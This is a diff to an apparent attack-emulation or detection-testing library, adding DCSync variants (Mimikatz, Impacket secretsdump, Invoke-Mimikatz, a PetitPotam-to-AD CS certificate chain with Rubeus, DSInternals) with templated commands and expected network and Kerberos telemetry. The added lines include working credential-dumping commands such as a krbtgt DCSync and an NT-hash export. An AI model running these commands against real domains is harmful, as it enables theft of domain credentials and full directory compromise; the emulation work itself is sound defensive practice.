@@ -1,4 +1,4 @@
-import { t, v } from "../dsl";
+import { dcReplication, t, v } from "../dsl";
 
 /** Credential access: the dumping and theft tooling of real intrusions. */
 export const credentialAccess = [
@@ -242,7 +242,7 @@ export const credentialAccess = [
   t(
     "T1003.006",
     "DCSync",
-    "Directory replication requested by a non-DC account (Mimikatz lsadump::dcsync, secretsdump).",
+    "Directory replication requested by a non-DC account (Mimikatz lsadump::dcsync, secretsdump, DSInternals).",
     [
       v(
         "mimikatz-dcsync",
@@ -253,16 +253,81 @@ export const credentialAccess = [
               ["@dc", 135],
               ["@dc", 49667],
             ],
+            then: dcReplication("@admin", "@workstation"),
           },
         ],
         { user: "@admin", needs: ["replication rights (domain admin)"] },
+      ),
+      // Impacket from an attacker-controlled box on the network: only the DC sees it (NTLM with a hash).
+      v(
+        "secretsdump",
+        [
+          {
+            then: [...dcReplication("@admin", "@workstation2", "NTLM", true)],
+          },
+        ],
+        { shell: "none", needs: ["replication rights (domain admin hash)"] },
       ),
       v(
         "invoke-mimikatz",
         [
           {
             ps: "Invoke-Mimikatz -Command '\"lsadump::dcsync /domain:{{dns}} /all /csv\"'",
-            net: [["@dc", 135]],
+            net: [
+              ["@dc", 135],
+              ["@dc", 49667],
+            ],
+            then: dcReplication("@admin", "@workstation", "Kerberos", true),
+          },
+        ],
+        { shell: "ps", user: "@admin" },
+      ),
+      // PetitPotam → AD CS web enrolment (ESC8) → a certificate for the DC's machine account → PKINIT TGT → DCSync as DC$.
+      v(
+        "petitpotam-dc-certificate",
+        [
+          {
+            cmd: "{{tools}}\\Rubeus.exe asktgt /user:{{dc}}$ /certificate:{{tools}}\\{{dc}}.pfx /ptt /nowrap",
+            reads: ["{{tools}}\\{{dc}}.pfx"],
+            net: [["@dc", 88]],
+            then: [
+              {
+                id: "pkinit",
+                kind: "kerberos.tgt",
+                host: "@dc",
+                user: "{{dc}}$",
+                source: "@workstation",
+                preAuthType: "16",
+                certificate: {
+                  issuer: "{{domain}}-{{dc}}-CA",
+                  serial: "{{certserial}}",
+                  thumbprint: "{{thumb}}",
+                },
+              },
+            ],
+          },
+          {
+            cmd: '{{tools}}\\mimikatz.exe "lsadump::dcsync /domain:{{dns}} /user:{{domain}}\\krbtgt" exit',
+            net: [
+              ["@dc", 135],
+              ["@dc", 49667],
+            ],
+            then: dcReplication("{{dc}}$", "@workstation"),
+          },
+        ],
+        { needs: ["a certificate issued for the DC machine account (NTLM relay to AD CS)"] },
+      ),
+      v(
+        "dsinternals",
+        [
+          {
+            ps: "Get-ADReplAccount -All -Server {{dcfqdn}} -NamingContext 'DC={{dns}}'.Replace('.', ',DC=') | Format-Custom -View HashcatNT | Out-File {{tmp}}\\h.txt",
+            net: [
+              ["@dc", 135],
+              ["@dc", 49667],
+            ],
+            files: ["{{tmp}}\\h.txt"],
+            then: dcReplication("@admin", "@workstation", "Kerberos", true),
           },
         ],
         { shell: "ps", user: "@admin" },
